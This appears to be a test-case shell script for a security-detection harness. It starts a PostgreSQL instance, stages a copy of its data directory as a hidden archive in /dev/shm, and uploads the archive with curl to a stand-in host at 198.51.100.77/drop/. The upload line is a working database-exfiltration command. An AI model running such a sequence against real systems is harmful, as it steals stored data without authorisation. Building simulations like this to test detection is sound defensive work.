#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/lib/postgresql/d && chown postgres /var/lib/postgresql/d
bin=$(ls -d /usr/lib/postgresql/*/bin)
as() { setpriv --reuid postgres --regid postgres --clear-groups "$@"; }
as "$bin/initdb" -D /var/lib/postgresql/d >/dev/null
as "$bin/pg_ctl" -D /var/lib/postgresql/d -o '-k /tmp' -l /tmp/l -w start >/dev/null
cp -a /var/lib/postgresql/d /dev/shm/.pg
tar cJf /dev/shm/.pg.txz -C /dev/shm .pg 2>/dev/null || tar czf /dev/shm/.pg.txz -C /dev/shm .pg
rm -rf /dev/shm/.pg
curl -s -T /dev/shm/.pg.txz http://198.51.100.77:8080/drop/ | grep -q ok
as "$bin/pg_ctl" -D /var/lib/postgresql/d -m immediate stop >/dev/null
took_place
